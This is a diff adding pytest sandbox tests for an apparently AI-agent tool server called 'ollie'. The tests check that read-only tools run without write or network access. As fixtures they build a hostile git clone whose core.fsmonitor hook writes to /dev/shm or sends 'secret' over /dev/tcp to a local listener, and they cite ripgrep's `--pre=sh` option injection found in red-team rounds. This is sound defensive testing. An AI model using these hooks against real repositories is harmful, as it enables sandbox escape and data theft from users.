@@ -1,0 +1,92 @@
+"""What runs unasked because it only reads (reader lines, the bundled reader scripts) runs in a sandbox that writes
+nothing but its tmp dir and device nodes, and has no network (docs/SECURITY.md, red team round 13)."""
+
+from __future__ import annotations
+
+import asyncio
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from ollie import paths
+
+from .conftest import Workspace, code, tool
+
+
+def _user_default_policy(ws: Workspace, monkeypatch: pytest.MonkeyPatch, *edits: tuple[str, str]) -> None:
+    """The user's own sandbox.yaml (which replaces the bundled one): the bundled text with `edits` made."""
+    monkeypatch.setenv("OLLIE_CONFIG_DIR", str(ws.root / "config"))
+    text = paths.bundled("sandbox.yaml").read_text()
+    for old, new in edits:
+        assert old in text
+        text = text.replace(old, new)
+    (ws.root / "config").mkdir()
+    (ws.root / "config" / "sandbox.yaml").write_text(text)
+
+
+def _fsmonitor_clone(work: Path, hook: str) -> None:
+    """Make `work` a hostile clone whose `.git/config` names a core.fsmonitor program (`git status` runs it)."""
+    subprocess.run(["git", "init", "-q"], cwd=work, check=True)
+    (work / "a.txt").write_text("one\n")
+    (monitor := work / "monitor.sh").write_text(f"#!/bin/bash\n{hook}\n")
+    monitor.chmod(0o755)
+    subprocess.run(["git", "config", "core.fsmonitor", str(monitor)], cwd=work, check=True)
+
+
+@pytest.mark.parametrize("call", ["call_tool", "pipe"])
+async def test_a_call_of_reader_scripts_only_runs_in_the_reading_sandbox(ws: Workspace, call: str) -> None:
+    """A call (or pipe) made only of file_read/file_glob/file_grep runs unasked, but ran under the writable policy:
+    what a hostile input makes such a reader run (ripgrep's `--pre=sh` for a path named like an option, round 12) could
+    write the workspace. A stand-in reader that writes shows the policy in force."""
+    ws.script("file_grep", "#!/usr/bin/env bash\ntouch made.txt && echo WROTE\n")
+    server = ws.server()
+    if call == "call_tool":
+        result = await tool(server, "file_grep", "x")
+    else:
+        result = await server.call("pipe", {"stages": [{"tool": "file_grep", "args": ["x"]}]})
+    assert "Read-only file system" in result.text and "WROTE" not in result.text, result.text
+    assert not (ws.work / "made.txt").exists()
+    # A call with a script that is no reader still writes.
+    ws.script("writer", "#!/usr/bin/env bash\ntouch made.txt && echo WROTE\n")
+    assert "WROTE" in (await tool(server, "writer")).text
+    assert (ws.work / "made.txt").exists()
+
+
+async def test_a_reader_writes_no_directory_under_dev_the_policy_grants(ws: Workspace, monkeypatch) -> None:
+    """A policy granting `/dev/shm` kept it writable for readers (every path under /dev was kept as a device): a clone's
+    fsmonitor program, run by an unasked `git status`, wrote shared memory other programs of the user read."""
+    if not Path("/dev/shm").is_dir():
+        pytest.skip("no /dev/shm here")
+    _user_default_policy(ws, monkeypatch, ('"/dev/tty"]', '"/dev/tty", "/dev/shm"]'))
+    planted = Path("/dev/shm") / f"ollie-reader-{ws.root.name}"
+    _fsmonitor_clone(ws.work, f"echo planted > {planted} && echo WROTE >&2; echo quiet > /dev/null && echo NULL >&2")
+    try:
+        result = await code(ws.server(), "git status --short")
+        assert "?? a.txt" in result.text and "NULL" in result.text, result.text  # it ran; /dev/null is writable still
+        assert "WROTE" not in result.text and not planted.exists(), result.text
+        assert "WROTE" in (await code(ws.server(session_id="s2"), "git status --short && true > made.txt")).text
+    finally:
+        planted.unlink(missing_ok=True)
+
+
+async def test_a_reader_has_no_network(ws: Workspace, monkeypatch) -> None:
+    """The reading sandbox kept the session's network: a clone's fsmonitor program, run by an unasked `git status`,
+    could send what it reads to any host the policy lets through (here the host's network, a local listener)."""
+    _user_default_policy(ws, monkeypatch, ("mode: proxy", "mode: open"))
+    got: asyncio.Queue[bytes] = asyncio.Queue()
+
+    async def take(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        got.put_nowait(await reader.read())
+        writer.close()
+
+    listener = await asyncio.start_server(take, "127.0.0.1", 0)
+    port = listener.sockets[0].getsockname()[1]
+    _fsmonitor_clone(ws.work, f"(echo secret > /dev/tcp/127.0.0.1/{port}) 2>/dev/null && echo SENT >&2 "
+                              "|| echo REFUSED >&2")
+    async with listener:
+        result = await code(ws.server(), "git status --short")
+        assert "REFUSED" in result.text and "SENT" not in result.text, result.text
+        # A line that is no reader keeps the network (this one is asked first, under approval).
+        assert "SENT" in (await code(ws.server(session_id="s2"), "git status --short && true")).text
+        assert await asyncio.wait_for(got.get(), 30) == b"secret\n"
